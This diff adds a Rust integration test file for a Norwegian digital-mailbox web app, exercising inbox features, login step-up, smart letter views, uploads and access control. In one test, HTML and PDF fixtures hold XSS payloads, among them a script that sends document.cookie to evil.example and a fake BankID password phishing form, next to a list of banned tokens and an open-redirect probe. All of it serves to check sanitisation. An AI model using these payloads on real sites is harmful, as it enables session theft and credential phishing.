@@ -1,0 +1,693 @@
+//! The citizen web app over real HTTP: login through the ID-porten stand-in, letters
+//! delivered through a real access point, every page and action as a browser uses them.
+
+mod common;
+
+use common::*;
+use dpi::container::{
+    Arrangement, Bevis, BevisAttributt, Bevisholder, Extension, Gyldighetsperiode, Lenke,
+    Maanedstidspunkt, Moteplass, Strekkode, StrekkodeType, Tekst, Tidsrom,
+};
+
+const SUBSTANTIAL: &str = "idporten-loa-substantial";
+const HIGH: &str = "idporten-loa-high";
+
+fn t(s: &str) -> Tekst {
+    Tekst::new(s, "no")
+}
+
+#[tokio::test]
+async fn inbox_letter_and_folders() {
+    let chain = start().await;
+    let kari = chain.pids.digipost.clone();
+    let first = Letter::to(&chain, &kari, "Skattemelding 2026").docs(vec![
+        Doc::new("brev.pdf", "application/pdf", "Skattemeldingen", PDF),
+        Doc::new(
+            "vedlegg.txt",
+            "text/plain",
+            "Forklaring",
+            "Slik leser du skattemeldingen <b>ikke fet</b>.\n".as_bytes(),
+        ),
+    ]);
+    chain.deliver(&first).await;
+    chain
+        .deliver(&Letter::to(&chain, &kari, "Barnehageplass"))
+        .await;
+
+    let b = chain.browser(&kari, SUBSTANTIAL).await;
+    let inbox = b.get("/postkasse/innboks").await;
+    assert_eq!(inbox.status, 200);
+    assert!(inbox.body.contains("lang=\"nb\""));
+    // Newest first, both unread, sender name and attachment count shown.
+    let a = inbox.body.find("Barnehageplass").unwrap();
+    let s = inbox.body.find("Skattemelding 2026").unwrap();
+    assert!(a < s, "newest first");
+    assert_eq!(inbox.body.matches("letter--unread").count(), 2);
+    assert!(inbox.body.contains(pki::demo::KOMMUNE_NAME));
+    assert!(inbox.body.contains("1 vedlegg"));
+    // The strict policy is on every page.
+    let csp = inbox.headers["content-security-policy"].to_str().unwrap();
+    assert!(csp.contains("default-src 'none'") && !csp.contains("script-src"));
+    assert_eq!(inbox.headers["x-content-type-options"], "nosniff");
+
+    let ids = letter_ids(&inbox.body);
+    assert_eq!(ids.len(), 2);
+    let skatt = ids[1].clone();
+    let letter = b.get(&format!("/postkasse/innboks/brev/{skatt}")).await;
+    assert_eq!(letter.status, 200);
+    assert!(letter.body.contains("Skattemeldingen"));
+    // Text documents inline, escaped.
+    assert!(
+        letter
+            .body
+            .contains("Slik leser du skattemeldingen &#60;b&#62;ikke fet&#60;/b&#62;.")
+    );
+    // PDF in a frame with a download link.
+    assert!(
+        letter
+            .body
+            .contains(&format!("/innboks/brev/{skatt}/dokument/0\""))
+    );
+    assert!(
+        letter
+            .body
+            .contains(&format!("/innboks/brev/{skatt}/dokument/0?last_ned=1"))
+    );
+    // Opening made it read.
+    let inbox = b.get("/postkasse/innboks").await;
+    assert_eq!(inbox.body.matches("letter--unread").count(), 1);
+    let unread_only = b.get("/postkasse/innboks?ulest=1").await;
+    assert_eq!(letter_ids(&unread_only.body), vec![ids[0].clone()]);
+    // Search in titles.
+    let found = b.get("/postkasse/innboks?sok=skatte").await;
+    assert_eq!(letter_ids(&found.body), vec![skatt.clone()]);
+    // Sender filter and date range.
+    let by_sender = b
+        .get(&format!(
+            "/postkasse/innboks?avsender={}",
+            pki::demo::kommune()
+        ))
+        .await;
+    assert_eq!(letter_ids(&by_sender.body).len(), 2);
+    let by_other = b.get("/postkasse/innboks?avsender=974760673").await;
+    assert!(letter_ids(&by_other.body).is_empty());
+    let old = b.get("/postkasse/innboks?til=2020-01-01").await;
+    assert!(letter_ids(&old.body).is_empty());
+    let today = time::OffsetDateTime::now_utc().date();
+    let recent = b
+        .get(&format!(
+            "/postkasse/innboks?fra={}",
+            today.previous_day().unwrap()
+        ))
+        .await;
+    assert_eq!(letter_ids(&recent.body).len(), 2);
+
+    // Mark unread again.
+    let token = csrf(&letter.body);
+    let r = b
+        .post(
+            &format!("/postkasse/innboks/brev/{skatt}/ulest"),
+            &[("csrf", &token)],
+        )
+        .await;
+    assert_eq!(r.status, 200);
+    assert_eq!(r.body.matches("letter--unread").count(), 2);
+
+    // Archive from the letter page, then restore from the archive.
+    let r = b
+        .post(
+            &format!("/postkasse/innboks/brev/{skatt}/flytt"),
+            &[("csrf", &token), ("til", "archive")],
+        )
+        .await;
+    assert_eq!(r.status, 200);
+    assert!(r.url.contains("mappe=archive"));
+    assert_eq!(letter_ids(&r.body), vec![skatt.clone()]);
+    let inbox = b.get("/postkasse/innboks").await;
+    assert_eq!(letter_ids(&inbox.body), vec![ids[0].clone()]);
+    let r = b
+        .post(
+            &format!("/postkasse/innboks/brev/{skatt}/flytt"),
+            &[("csrf", &token), ("til", "inbox")],
+        )
+        .await;
+    assert_eq!(letter_ids(&r.body).len(), 2);
+
+    // Bulk: both to the bin, then both back.
+    let r = b
+        .post(
+            "/postkasse/innboks/handling",
+            &[
+                ("csrf", &token),
+                ("mappe", "inbox"),
+                ("id", &ids[0]),
+                ("id", &ids[1]),
+                ("action", "bin"),
+            ],
+        )
+        .await;
+    assert_eq!(r.status, 200);
+    assert!(letter_ids(&r.body).is_empty());
+    let bin = b.get("/postkasse/innboks?mappe=bin").await;
+    assert_eq!(letter_ids(&bin.body).len(), 2);
+    let r = b
+        .post(
+            "/postkasse/innboks/handling",
+            &[
+                ("csrf", &token),
+                ("mappe", "bin"),
+                ("id", &ids[0]),
+                ("id", &ids[1]),
+                ("action", "inbox"),
+            ],
+        )
+        .await;
+    assert!(letter_ids(&r.body).is_empty());
+    assert_eq!(letter_ids(&b.get("/postkasse/innboks").await.body).len(), 2);
+
+    // A form without the token is refused and changes nothing.
+    let r = b
+        .post(
+            "/postkasse/innboks/handling",
+            &[("csrf", "x"), ("id", &ids[0]), ("action", "bin")],
+        )
+        .await;
+    assert_eq!(r.status, 403);
+    assert_eq!(letter_ids(&b.get("/postkasse/innboks").await.body).len(), 2);
+    chain.stop().await;
+}
+
+#[tokio::test]
+async fn keyset_paging() {
+    let chain = start_with("127.0.0.1:0", |c| c.page_size = 2).await;
+    let kari = chain.pids.digipost.clone();
+    for i in 0..5 {
+        chain
+            .deliver(&Letter::to(&chain, &kari, &format!("Brev nummer {i}")))
+            .await;
+    }
+    let b = chain.browser(&kari, SUBSTANTIAL).await;
+    let mut seen = Vec::new();
+    let mut page = b.get("/postkasse/innboks").await;
+    loop {
+        let ids = letter_ids(&page.body);
+        assert!(ids.len() <= 2);
+        seen.extend(ids);
+        let Some(href) = href_with(&page.body, "rel=\"next\"") else {
+            break;
+        };
+        page = b.get(&href).await;
+    }
+    assert_eq!(seen.len(), 5);
+    let mut dedup = seen.clone();
+    dedup.sort();
+    dedup.dedup();
+    assert_eq!(dedup.len(), 5, "no letter twice");
+    chain.stop().await;
+}
+
+#[tokio::test]
+async fn opening_receipt_is_asked_for_and_reaches_the_sender() {
+    let chain = start().await;
+    let kari = chain.pids.digipost.clone();
+    let sbd = chain
+        .deliver(&Letter::to(&chain, &kari, "Innkalling til møte").receipt())
+        .await;
+    let b = chain.browser(&kari, SUBSTANTIAL).await;
+    let inbox = b.get("/postkasse/innboks").await;
+    let id = letter_ids(&inbox.body).remove(0);
+    let page = b.get(&format!("/postkasse/innboks/brev/{id}")).await;
+    assert!(page.body.contains("Avsenderen ber om åpningskvittering"));
+    assert!(
+        !page.body.contains("/dokument/0"),
+        "no content before consent"
+    );
+    let (status, _, _) = b
+        .get_bytes(&format!("/postkasse/innboks/brev/{id}/dokument/0"))
+        .await;
+    assert_eq!(status, 403);
+    // Still unread: looking at the consent step is not opening.
+    assert!(
+        b.get("/postkasse/innboks")
+            .await
+            .body
+            .contains("letter--unread")
+    );
+    let r = b
+        .post(
+            &format!("/postkasse/innboks/brev/{id}/kvittering"),
+            &[("csrf", &csrf(&page.body))],
+        )
+        .await;
+    assert_eq!(r.status, 200);
+    assert!(r.body.contains("Avsenderen har fått beskjed"));
+    assert!(r.body.contains("/dokument/0"));
+    assert!(
+        chain.wait_receipt(&sbd, "aapningskvittering").await,
+        "the sender sees it opened"
+    );
+    chain.stop().await;
+}
+
+#[tokio::test]
+async fn level4_letter_needs_step_up_and_returns_to_it() {
+    let chain = start().await;
+    let kari = chain.pids.digipost.clone();
+    chain
+        .deliver(
+            &Letter::to(&chain, &kari, "Melding fra helsetjenesten")
+                .level4()
+                .docs(vec![Doc::new(
+                    "brev.pdf",
+                    "application/pdf",
+                    "Prøvesvar: sensitiv diagnose",
+                    PDF,
+                )]),
+        )
+        .await;
+    let b = chain.browser(&kari, SUBSTANTIAL).await;
+    let inbox = b.get("/postkasse/innboks").await;
+    assert!(inbox.body.contains("Melding fra helsetjenesten"));
+    assert!(!inbox.body.contains("sensitiv diagnose"));
+    let id = letter_ids(&inbox.body).remove(0);
+    let path = format!("/postkasse/innboks/brev/{id}");
+    let page = b.get(&path).await;
+    assert!(page.body.contains("krever høyere sikkerhetsnivå"));
+    assert!(!page.body.contains("sensitiv diagnose"));
+    let (status, _, _) = b.get_bytes(&format!("{path}/dokument/0")).await;
+    assert_eq!(status, 403);
+    // Step up: the link goes to login at high and comes back to the same letter.
+    let href = href_with(&page.body, "acr=idporten-loa-high").unwrap();
+    let login = b.get(&href).await;
+    assert!(login.url.contains("/idporten/"), "{}", login.url);
+    assert!(login.body.contains(HIGH));
+    let back = b.login_form(&login.body, &kari, HIGH).await;
+    assert_eq!(back.status, 200);
+    assert!(back.url.ends_with(&path), "{}", back.url);
+    assert!(back.body.contains("sensitiv diagnose"));
+    let (status, headers, bytes) = b.get_bytes(&format!("{path}/dokument/0")).await;
+    assert_eq!(status, 200);
+    assert_eq!(headers["content-type"], "application/pdf");
+    assert_eq!(bytes, PDF);
+    chain.stop().await;
+}
+
+fn smart_letter(chain: &Chain, pid: &str) -> Letter {
+    let lenke = Extension::Lenke(Lenke {
+        url: format!("{}/lenke-maal", chain.origin),
+        beskrivelse: Some(t("Svar på tilbudet om barnehageplass")),
+        knapp_tekst: Some(t("Svar her")),
+        frist: Some("2020-12-15T12:00:00+01:00".into()),
+    });
+    let arrangement = Extension::Arrangement(Arrangement {
+        tittel: t("Time hos tannlegen"),
+        tidsrom_tittel: None,
+        tidsrom: vec![Tidsrom {
+            fra: Some("2030-03-03T10:00:00+01:00".into()),
+            til: Some("2030-03-03T10:30:00+01:00".into()),
+        }],
+        oppmote_informasjon: Some(t("Møt opp ti minutter før.")),
+        moteplass: Moteplass {
+            tittel: t("Oppmøtested"),
+            navn: "Tannklinikken".into(),
+            gateadresse: Some("Storgata 1".into()),
+            postnummer: Some("0155".into()),
+            sted: Some("Oslo".into()),
+            land: None,
+        },
+        strekkode: Some(Strekkode {
+            tittel: Some(t("Vis ved oppmøte")),
+            verdi: "ABC-12345".into(),
+            kind: StrekkodeType::Code39,
+            tekst: None,
+            vis_verdi: Some(true),
+        }),
+        info: vec![],
+        lenker: vec![],
+    });
+    let bevis = Extension::Bevis(Bevis {
+        utsteder_visningsnavn: Some(t("Oslo kommune")),
+        bakgrunnsfarge: Some("#003087".into()),
+        utstedt_tidspunkt: Some("2026-01-01T00:00:00+01:00".into()),
+        gyldighetsperiode: Some(Gyldighetsperiode::AarligRepeterendePeriode {
+            start_aar: None,
+            slutt_aar: Some(2020),
+            fra: Maanedstidspunkt {
+                maaned: 1,
+                dag: Some(1),
+                time: None,
+                minutt: None,
+                tidssone: None,
+            },
+            til: Maanedstidspunkt {
+                maaned: 12,
+                dag: Some(31),
+                time: Some(23),
+                minutt: None,
+                tidssone: None,
+            },
+        }),
+        bevisholder: Bevisholder {
+            fornavn: "Kari".into(),
+            etternavn: "Nordmann".into(),
+            foedselsnummer: None,
+            adresse: None,
+        },
+        tittel: t("Parkeringstillatelse"),
+        bevis_id_navn: Some(t("Tillatelse nr.")),
+        bevis_id_verdi: Some("P-778".into()),
+        attributt: vec![BevisAttributt {
+            navn: t("Sone"),
+            verdi: t("Sentrum"),
+        }],
+        info: vec![],
+    });
+    Letter::to(chain, pid, "Tilbud, time og tillatelse").docs(vec![
+        Doc::new(
+            "brev.pdf",
+            "application/pdf",
+            "Tilbud om barnehageplass",
+            PDF,
+        )
+        .with("lenke.xml", lenke),
+        Doc::new("time.pdf", "application/pdf", "Timebekreftelse", PDF)
+            .with("arrangement.xml", arrangement),
+        Doc::new("bevis.pdf", "application/pdf", "Parkeringsbevis", PDF).with("bevis.xml", bevis),
+    ])
+}
+
+#[tokio::test]
+async fn smart_views_of_lenke_arrangement_and_bevis() {
+    let chain = start().await;
+    let kari = chain.pids.digipost.clone();
+    chain.deliver(&smart_letter(&chain, &kari)).await;
+    let b = chain.browser(&kari, SUBSTANTIAL).await;
+    let id = letter_ids(&b.get("/postkasse/innboks").await.body).remove(0);
+    let page = b.get(&format!("/postkasse/innboks/brev/{id}")).await;
+    assert_eq!(page.status, 200);
+    // Lenke: button text, description, the deadline marked as passed.
+    assert!(page.body.contains(">Svar her</a>"));
+    assert!(page.body.contains("Svar på tilbudet om barnehageplass"));
+    assert!(page.body.contains("Fristen har gått ut"));
+    assert!(page.body.contains("15. desember 2020 kl. 12:00"));
+    assert!(
+        page.body
+            .contains(&format!("href=\"{}/lenke-maal\"", chain.origin))
+    );
+    assert!(page.body.contains("rel=\"noopener noreferrer\""));
+    // Arrangement: time, place, barcode as inline SVG, calendar link.
+    assert!(page.body.contains("Time hos tannlegen"));
+    assert!(page.body.contains("3. mars 2030 kl. 10:00–10:30"));
+    assert!(page.body.contains("Tannklinikken"));
+    assert!(
+        page.body
+            .contains("<svg xmlns=\"http://www.w3.org/2000/svg\"")
+    );
+    assert!(page.body.contains("ABC-12345"));
+    let ics_href = format!("/postkasse/innboks/brev/{id}/dokument/1/kalender.ics");
+    assert!(page.body.contains(&ics_href));
+    let (status, headers, ics) = b.get_bytes(&ics_href).await;
+    assert_eq!(status, 200);
+    assert_eq!(headers["content-type"], "text/calendar; charset=utf-8");
+    assert!(
+        headers["content-disposition"]
+            .to_str()
+            .unwrap()
+            .starts_with("attachment")
+    );
+    let ics = String::from_utf8(ics).unwrap();
+    assert!(ics.contains("DTSTART:20300303T090000Z"));
+    assert!(ics.contains("SUMMARY:Time hos tannlegen"));
+    // No calendar for a document without an arrangement.
+    let (status, _, _) = b
+        .get_bytes(&format!(
+            "/postkasse/innboks/brev/{id}/dokument/0/kalender.ics"
+        ))
+        .await;
+    assert_eq!(status, 404);
+    // Bevis: card in the issuer's colour with readable text, marked not valid now.
+    assert!(
+        page.body
+            .contains("background-color: #003087; color: #ffffff")
+    );
+    assert!(page.body.contains("Parkeringstillatelse"));
+    assert!(page.body.contains("Kari Nordmann"));
+    assert!(page.body.contains("Sentrum"));
+    assert!(page.body.contains("hvert år"));
+    assert!(page.body.contains("Ikke gyldig nå"));
+    chain.stop().await;
+}
+
+const HOSTILE_HTML: &str = r#"<!DOCTYPE html><html><head><title>x</title>
+<script>fetch('https://evil.example/?c='+document.cookie)</script>
+<link rel="stylesheet" href="https://evil.example/s.css"></head>
+<body onload="alert(1)"><h1>Vedtak om bostøtte</h1>
+<p onmouseover="alert(2)">Du har fått <strong>innvilget</strong> bostøtte.</p>
+<img src="https://evil.example/pixel.png" alt="sporing">
+<form action="https://evil.example/phish" method="post"><label>BankID-passord <input name="pw"></label><button>Send</button></form>
+<a href="javascript:alert(3)">Klikk</a>
+<iframe src="https://evil.example/"></iframe>
+</body></html>"#;
+
+const HOSTILE_PDF: &[u8] = b"%PDF-1.4\n<html><script>alert(document.domain)</script></html>\n\
+1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF\n";
+
+#[tokio::test]
+async fn hostile_html_and_pdf_are_harmless() {
+    let chain = start().await;
+    let kari = chain.pids.digipost.clone();
+    chain
+        .deliver(&Letter::to(&chain, &kari, "Vedtak").docs(vec![
+            Doc::new(
+                "vedtak.html",
+                "text/html",
+                "Vedtak om bostøtte",
+                HOSTILE_HTML.as_bytes(),
+            ),
+            Doc::new("vedlegg.pdf", "application/pdf", "Vedlegg", HOSTILE_PDF),
+        ]))
+        .await;
+    let b = chain.browser(&kari, SUBSTANTIAL).await;
+    let id = letter_ids(&b.get("/postkasse/innboks").await.body).remove(0);
+    let page = b.get(&format!("/postkasse/innboks/brev/{id}")).await;
+    // The HTML letter only ever appears in a sandboxed frame without scripts.
+    assert!(
+        page.body
+            .contains("sandbox=\"allow-popups allow-popups-to-escape-sandbox\"")
+    );
+    assert!(!page.body.contains("evil.example"));
+    let vis = b
+        .get(&format!("/postkasse/innboks/brev/{id}/dokument/0/vis"))
+        .await;
+    assert_eq!(vis.status, 200);
+    let lower = vis.body.to_ascii_lowercase();
+    for bad in [
+        "<script",
+        "onload",
+        "onmouseover",
+        "evil.example",
+        "<form",
+        "<input",
+        "<iframe",
+        "javascript:",
+        "<link",
+    ] {
+        assert!(!lower.contains(bad), "{bad} in {}", vis.body);
+    }
+    assert!(
+        vis.body
+            .contains("Du har fått <strong>innvilget</strong> bostøtte.")
+    );
+    let csp = vis.headers["content-security-policy"].to_str().unwrap();
+    assert!(csp.contains("default-src 'none'"));
+    assert!(csp.contains("sandbox"));
+    assert!(!csp.contains("script"));
+    assert_eq!(vis.headers["x-content-type-options"], "nosniff");
+    // The raw HTML is never served as HTML.
+    let (status, headers, _) = b
+        .get_bytes(&format!("/postkasse/innboks/brev/{id}/dokument/0"))
+        .await;
+    assert_eq!(status, 200);
+    assert_eq!(headers["content-type"], "application/octet-stream");
+    assert!(
+        headers["content-disposition"]
+            .to_str()
+            .unwrap()
+            .starts_with("attachment")
+    );
+    // The PDF keeps its type (never sniffed as HTML), cannot be framed by others and gets
+    // no network; the download is an attachment.
+    let (status, headers, bytes) = b
+        .get_bytes(&format!("/postkasse/innboks/brev/{id}/dokument/1"))
+        .await;
+    assert_eq!(status, 200);
+    assert_eq!(bytes, HOSTILE_PDF);
+    assert_eq!(headers["content-type"], "application/pdf");
+    assert_eq!(headers["x-content-type-options"], "nosniff");
+    let csp = headers["content-security-policy"].to_str().unwrap();
+    assert!(csp.contains("default-src 'none'") && csp.contains("frame-ancestors 'self'"));
+    assert_eq!(headers["cross-origin-resource-policy"], "same-origin");
+    let (_, headers, _) = b
+        .get_bytes(&format!(
+            "/postkasse/innboks/brev/{id}/dokument/1?last_ned=1"
+        ))
+        .await;
+    let disp = headers["content-disposition"].to_str().unwrap();
+    assert!(
+        disp.starts_with("attachment; filename=\"vedlegg.pdf\""),
+        "{disp}"
+    );
+    chain.stop().await;
+}
+
+#[tokio::test]
+async fn language_switch_and_ui_locales() {
+    let chain = start().await;
+    let kari = chain.pids.digipost.clone();
+    let b = chain.browser(&kari, SUBSTANTIAL).await;
+    let nn = b
+        .get("/postkasse/innboks/sprak/nn?til=%2Fpostkasse%2Finnboks%3Fmappe%3Darchive")
+        .await;
+    assert_eq!(nn.status, 200);
+    assert!(nn.url.ends_with("/postkasse/innboks?mappe=archive"));
+    assert!(nn.body.contains("<html lang=\"nn\""));
+    assert!(nn.body.contains("Hopp til hovudinnhald"));
+    let en = b
+        .get("/postkasse/innboks/sprak/en?til=https%3A%2F%2Fevil.example%2F")
+        .await;
+    assert!(
+        en.url.ends_with("/postkasse/innboks"),
+        "no open redirect: {}",
+        en.url
+    );
+    assert!(en.body.contains("<html lang=\"en\""));
+    assert!(en.body.contains("Skip to main content"));
+    // The login redirect tells ID-porten the language, and its login page follows it.
+    let fresh = reqwest::Client::builder()
+        .cookie_store(true)
+        .build()
+        .unwrap();
+    let r = fresh
+        .get(chain.url("/postkasse/innboks/sprak/nn"))
+        .header("accept", "text/html")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
+    let r = fresh
+        .get(chain.url("/postkasse/innboks"))
+        .header("accept", "text/html")
+        .send()
+        .await
+        .unwrap();
+    assert!(r.url().as_str().contains("ui_locales=nn"), "{}", r.url());
+    let page = r.text().await.unwrap();
+    assert!(page.contains("lang=\"nn\""), "{page}");
+    chain.stop().await;
+}
+
+#[tokio::test]
+async fn own_documents_upload_with_limits() {
+    let chain = start_with("127.0.0.1:0", |c| c.max_upload_bytes = 64 * 1024).await;
+    let kari = chain.pids.digipost.clone();
+    let b = chain.browser(&kari, SUBSTANTIAL).await;
+    let page = b.get("/postkasse/innboks/dokumenter").await;
+    assert_eq!(page.status, 200);
+    let token = csrf(&page.body);
+    let up = |name: &'static str, bytes: Vec<u8>, token: String| {
+        let form = reqwest::multipart::Form::new().text("csrf", token).part(
+            "fil",
+            reqwest::multipart::Part::bytes(bytes).file_name(name),
+        );
+        b.client
+            .post(b.abs("/postkasse/innboks/dokumenter"))
+            .multipart(form)
+            .send()
+    };
+    let r = up("kvittering.pdf", PDF.to_vec(), token.clone())
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
+    let body = r.text().await.unwrap();
+    assert!(body.contains("Dokumentet er lastet opp."));
+    assert!(body.contains("kvittering.pdf"));
+    let r = up("virus.exe", b"MZ\x90\x00\x03\x00".to_vec(), token.clone())
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 415);
+    assert!(
+        r.text()
+            .await
+            .unwrap()
+            .contains("Denne filtypen kan ikke lastes opp")
+    );
+    let r = up(
+        "stor.pdf",
+        [b"%PDF-".as_slice(), &vec![b'a'; 200 * 1024]].concat(),
+        token.clone(),
+    )
+    .await
+    .unwrap();
+    assert_eq!(r.status(), 413);
+    assert!(r.text().await.unwrap().contains("Filen er for stor."));
+    let r = up("x.pdf", PDF.to_vec(), "feil".into()).await.unwrap();
+    assert_eq!(r.status(), 403);
+    // The uploaded document is served back with safe headers.
+    let page = b.get("/postkasse/innboks/dokumenter").await;
+    let i = page.body.find("/innboks/dokumenter/").unwrap();
+    let href: String = page.body[i..].chars().take_while(|c| *c != '"').collect();
+    let (status, headers, bytes) = b.get_bytes(&format!("/postkasse{href}")).await;
+    assert_eq!(status, 200);
+    assert_eq!(bytes, PDF);
+    assert_eq!(headers["content-type"], "application/pdf");
+    chain.stop().await;
+}
+
+#[tokio::test]
+async fn not_logged_in_goes_to_login_and_no_mailbox_is_told() {
+    let chain = start().await;
+    let anon = reqwest::Client::builder()
+        .redirect(reqwest::redirect::Policy::none())
+        .build()
+        .unwrap();
+    let r = anon
+        .get(chain.url("/postkasse/innboks"))
+        .header("accept", "text/html")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 303);
+    assert!(
+        r.headers()["location"]
+            .to_str()
+            .unwrap()
+            .contains("/postkasse/auth/login")
+    );
+    let r = anon
+        .post(chain.url("/postkasse/innboks/handling"))
+        .form(&[("action", "bin")])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 401);
+    let welcome = anon
+        .get(chain.url("/postkasse/innboks/velkommen"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(welcome.status(), 200);
+    // A person without a mailbox here gets a clear page, not someone else's.
+    let per = chain.pids.no_mailbox.clone();
+    let b = Browser {
+        client: reqwest::Client::builder()
+            .cookie_store(true)
+            .build()
+            .unwrap(),
+        origin: chain.origin.clone(),
+    };
+    let login = b.get("/postkasse/innboks").await;
+    let r = b.login_form(&login.body, &per, SUBSTANTIAL).await;
+    assert_eq!(r.status, 403);
+    assert!(r.body.contains("Du har ingen postkasse her"));
+    chain.stop().await;
+}
